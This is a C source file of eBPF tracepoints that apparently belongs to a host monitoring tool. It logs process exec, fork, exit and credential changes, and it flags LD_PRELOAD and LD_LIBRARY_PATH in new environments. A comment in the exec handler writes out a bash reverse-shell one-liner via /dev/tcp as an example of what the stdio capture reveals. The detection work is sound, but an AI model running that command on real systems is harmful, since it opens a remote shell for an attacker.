// SPDX-License-Identifier: (GPL-2.0-only OR Apache-2.0)
/* Process lifecycle: exec, fork (new processes only), exit (of the whole
 * thread group) and credential changes. */
#include "vmlinux.h"
#include <bpf/bpf_core_read.h>
#include <bpf/bpf_helpers.h>
#include <bpf/bpf_tracing.h>
#include "emit.bpf.h"
#include "filter.bpf.h"
#include "record.bpf.h"
#include "syscall.bpf.h"

char LICENSE[] SEC("license") = "Dual BSD/GPL";

#define YG_LD_VALUE_MAX 1024

static __always_inline int env__is(const char *var, const char *name, int len)
{
	for (int i = 0; i < len; i++)
		if (var[i] != name[i])
			return 0;
	return 1;
}

/* Appends the value of one LD_* variable found in s->env (the whole
 * variable was read when n < YG_ENV_CHUNK; otherwise read it again from
 * user memory, where it continues). */
static __always_inline __u32 env__append(struct yg_record_scratch *s, __u32 off, int idx,
					 const char *uvar, int name_len)
{
	__u32 room = record__room(off, YG_LD_VALUE_MAX);
	long n;

	if (room < 2)
		return off;
	n = bpf_probe_read_user_str(&s->data[YG_MASK(off, YG_DATA_MASK)], YG_MASK(room, YG_DATA_MASK),
				    uvar + name_len);
	if (n <= 1)
		return off;
	record__set(s, idx, n - 1, n == room);
	return off + n - 1;
}

struct env_scan {
	unsigned long p;       /* next byte to read */
	unsigned long limit;   /* end of the scanned part */
	unsigned long preload; /* where LD_PRELOAD= starts, or 0 */
	unsigned long libpath; /* where LD_LIBRARY_PATH= starts, or 0 */
	int at_start;          /* p is at the start of a variable */
};

/* One step of the environment search: copy one variable (or the next chunk
 * of a long one) with the kernel's word-at-a-time string copy, so the cost
 * grows with the number of variables, not with their bytes. */
static long env__step(__u64 i, struct env_scan *c)
{
	struct yg_record_scratch *s = record__scratch();
	long n;

	if (!s || c->p >= c->limit)
		return 1;
	n = bpf_probe_read_user_str(s->env, sizeof(s->env), (void *)c->p);
	if (n <= 0)
		return 1;
	if (c->at_start && n > 3 && s->env[0] == 'L' && s->env[1] == 'D' && s->env[2] == '_') {
		if (n > 11 && env__is(s->env, "LD_PRELOAD=", 11))
			c->preload = c->p;
		else if (n > 16 && env__is(s->env, "LD_LIBRARY_PATH=", 16))
			c->libpath = c->p;
	}
	/* n == sizeof(env): no NUL yet, the variable goes on. */
	c->at_start = n < sizeof(s->env);
	c->p += c->at_start ? n : n - 1;
	return 0;
}

/* Looks for LD_PRELOAD and LD_LIBRARY_PATH in the new environment, in its
 * first env_scan_bytes (0 turns the search off). */
static __always_inline __u32 exec__scan_env(struct yg_record_scratch *s, __u32 off,
					    unsigned long env_start, unsigned long env_end)
{
	struct yg_exec *r = record__fixed(s, struct yg_exec);
	struct env_scan c = {.p = env_start, .limit = env_start + yg_cfg.env_scan_bytes,
			     .at_start = 1};

	if (!yg_cfg.env_scan_bytes)
		return off;
	if (c.limit > env_end)
		c.limit = env_end;
	bpf_loop(YG_ENV_MAX_READS, env__step, &c, 0);
	r->flags |= YG_EXEC_ENV_SCANNED;
	if (c.p < env_end)
		r->flags |= YG_EXEC_ENV_SCAN_CUT;
	if (c.preload) {
		r->flags |= YG_EXEC_LD_PRELOAD;
		off = env__append(s, off, YG_EXEC_STR_LD_PRELOAD, (const char *)c.preload, 11);
	}
	if (c.libpath) {
		r->flags |= YG_EXEC_LD_LIBRARY_PATH;
		off = env__append(s, off, YG_EXEC_STR_LD_LIBRARY_PATH, (const char *)c.libpath, 16);
	}
	return off;
}

static __always_inline __u32 exec__args(struct yg_record_scratch *s, __u32 off,
					unsigned long start, unsigned long end)
{
	__u32 size = end > start ? end - start : 0;
	__u32 want = size < yg_cfg.max_args_bytes ? size : yg_cfg.max_args_bytes;
	__u32 room = record__room(off, want);
	struct yg_exec *r = record__fixed(s, struct yg_exec);

	r->args_size = size;
	if (!room)
		return off;
	if (bpf_probe_read_user(&s->data[YG_MASK(off, YG_DATA_MASK)], YG_MASK(room, YG_DATA_MASK), (void *)start)) {
		r->flags |= YG_EXEC_ARGS_UNREADABLE;
		return off;
	}
	record__set(s, YG_EXEC_STR_ARGS, room, room < size);
	return off + room;
}

SEC("tp_btf/sched_process_exec")
int BPF_PROG(yg_exec, struct task_struct *task, pid_t old_pid, struct linux_binprm *bprm)
{
	struct yg_record_scratch *s;
	struct file *exe = BPF_CORE_READ(bprm, file);
	const char *filename = BPF_CORE_READ(bprm, filename);
	const char *interp = BPF_CORE_READ(bprm, interp);
	struct mm_struct *mm = BPF_CORE_READ(task, mm);
	struct fs_struct *fs = BPF_CORE_READ(task, fs);
	struct yg_exec *r;
	__u32 off = 0;

	if (emit__is_self() || !filter__type_on(YG_EV_EXEC))
		return 0;
	s = record__scratch();
	if (!s) {
		emit__count(YG_EV_EXEC, 1, YG_DROP_NO_SCRATCH);
		return 0;
	}
	r = record__fixed(s, struct yg_exec);
	record__begin(s);
	task__fill(&r->task, task);
	path__file_info(&r->exe, exe);
	r->old_tid = old_pid;
	r->argc = BPF_CORE_READ(bprm, argc);
	r->args_size = 0;
	r->env_size = 0;
	r->flags = 0;
	r->pad0 = 0;
	__builtin_memset(r->stdio, 0, sizeof(r->stdio));
	/* The new image's descriptors: close-on-exec ones are closed by now
	 * (begin_new_exec), so `bash -i >& /dev/tcp/h/p 0>&1` shows its socket. */
	if (sys__stdio(r->stdio, task))
		r->flags |= YG_EXEC_STDIO;

	off = record__path(s, off, YG_EXEC_STR_EXE, (__u64)&exe->f_path);
	off = record__kstr(s, off, YG_EXEC_STR_FILENAME, filename, YG_PATH_MAX);
	/* binfmt_script replaces interp with the #! interpreter. */
	if (interp != filename) {
		r->flags |= YG_EXEC_SCRIPT;
		off = record__kstr(s, off, YG_EXEC_STR_INTERP, interp, 256);
	}
	off = record__path(s, off, YG_EXEC_STR_CWD, (__u64)&fs->pwd);
	off = record__cgroup(s, off, (__u64)task__cgroup_node(task));

	unsigned long env_start = BPF_CORE_READ(mm, env_start);
	unsigned long env_end = BPF_CORE_READ(mm, env_end);

	r->env_size = env_end - env_start;
	off = exec__scan_env(s, off, env_start, env_end);
	off = exec__args(s, off, BPF_CORE_READ(mm, arg_start), BPF_CORE_READ(mm, arg_end));
	record__emit(s, r, YG_EV_EXEC, off);
	return 0;
}

SEC("tp_btf/sched_process_fork")
int BPF_PROG(yg_fork, struct task_struct *parent, struct task_struct *child)
{
	struct yg_fork *e;

	/* Threads share the parent's thread group: not a new process. */
	if (BPF_CORE_READ(child, pid) != BPF_CORE_READ(child, tgid))
		return 0;
	if (emit__is_self() || !filter__type_on(YG_EV_FORK))
		return 0;
	e = emit__reserve(YG_EV_FORK, sizeof(*e));
	if (!e)
		return 0;
	emit__header(&e->hdr, YG_EV_FORK, sizeof(*e));
	task__fill(&e->child, child);
	emit__submit(e, YG_EV_FORK);
	return 0;
}

/* Fires for every exiting thread, after signal->live was decremented: the
 * process ends when the last thread does. exit_code then holds the wait
 * status the parent will see (a group exit copies it to every thread). */
SEC("tp_btf/sched_process_exit")
int BPF_PROG(yg_exit, struct task_struct *task)
{
	struct yg_exit *e;

	if (BPF_CORE_READ(task, signal, live.counter) != 0)
		return 0;
	if (emit__is_self() || !filter__type_on(YG_EV_EXIT))
		return 0;
	e = emit__reserve(YG_EV_EXIT, sizeof(*e));
	if (!e)
		return 0;
	emit__header(&e->hdr, YG_EV_EXIT, sizeof(*e));
	task__fill(&e->task, task);
	e->status = BPF_CORE_READ(task, exit_code);
	e->pad0 = 0;
	emit__submit(e, YG_EV_EXIT);
	return 0;
}

/* Credential changes: the creds before the call are kept per thread at
 * syscall entry and compared at exit, so only real changes are reported.
 * A plain hash, not LRU: an LRU would evict a thread's entry silently and
 * lose its change; a full map is counted instead. Every entry is removed
 * at syscall exit. */
struct {
	__uint(type, BPF_MAP_TYPE_HASH);
	__uint(max_entries, 16384);
	__type(key, __u64);
	__type(value, struct yg_creds);
} yg_cred_before SEC(".maps");

static __always_inline int cred__enter(void)
{
	struct task_struct *task = (struct task_struct *)bpf_get_current_task_btf();
	__u64 id = bpf_get_current_pid_tgid();
	struct yg_creds old = {};

	if (emit__is_self() || !filter__type_on(YG_EV_CRED))
		return 0;
	task__creds(&old, BPF_CORE_READ(task, cred));
	if (bpf_map_update_elem(&yg_cred_before, &id, &old, BPF_ANY))
		emit__count(YG_EV_CRED, 1, YG_DROP_STASH_FULL);
	return 0;
}

static __always_inline int cred__same(const struct yg_creds *a, const struct yg_creds *b)
{
	return a->uid == b->uid && a->euid == b->euid && a->suid == b->suid &&
	       a->fsuid == b->fsuid && a->gid == b->gid && a->egid == b->egid &&
	       a->sgid == b->sgid && a->fsgid == b->fsgid &&
	       a->cap_effective == b->cap_effective && a->cap_permitted == b->cap_permitted;
}

static __always_inline int cred__exit(long ret, __u32 syscall)
{
	struct task_struct *task = (struct task_struct *)bpf_get_current_task_btf();
	__u64 id = bpf_get_current_pid_tgid();
	struct yg_creds *old = bpf_map_lookup_elem(&yg_cred_before, &id);
	struct yg_creds now = {};
	struct yg_cred *e;

	if (!old)
		return 0;
	task__creds(&now, BPF_CORE_READ(task, cred));
	/* setfsuid/setfsgid return the previous id, not an error code. */
	if ((ret < 0 && syscall != YG_CRED_SETFSUID && syscall != YG_CRED_SETFSGID) ||
	    cred__same(&now, old)) {
		bpf_map_delete_elem(&yg_cred_before, &id);
		return 0;
	}
	e = emit__reserve(YG_EV_CRED, sizeof(*e));
	if (e) {
		emit__header(&e->hdr, YG_EV_CRED, sizeof(*e));
		task__fill(&e->task, task);
		e->old = *old;
		e->syscall = syscall;
		e->pad0 = 0;
		emit__submit(e, YG_EV_CRED);
	}
	bpf_map_delete_elem(&yg_cred_before, &id);
	return 0;
}

#define YG_CRED_SYSCALL(name, id)                                        \
	SEC("tp/syscalls/sys_enter_" #name)                              \
	int yg_enter_##name(void *ctx)                                   \
	{                                                                \
		return cred__enter();                                    \
	}                                                                \
	SEC("tp/syscalls/sys_exit_" #name)                               \
	int yg_exit_##name(struct trace_event_raw_sys_exit *ctx)         \
	{                                                                \
		return cred__exit(ctx->ret, id);                         \
	}

YG_CRED_SYSCALL(setuid, YG_CRED_SETUID)
YG_CRED_SYSCALL(setgid, YG_CRED_SETGID)
YG_CRED_SYSCALL(setreuid, YG_CRED_SETREUID)
YG_CRED_SYSCALL(setregid, YG_CRED_SETREGID)
YG_CRED_SYSCALL(setresuid, YG_CRED_SETRESUID)
YG_CRED_SYSCALL(setresgid, YG_CRED_SETRESGID)
YG_CRED_SYSCALL(setfsuid, YG_CRED_SETFSUID)
YG_CRED_SYSCALL(setfsgid, YG_CRED_SETFSGID)
YG_CRED_SYSCALL(capset, YG_CRED_CAPSET)
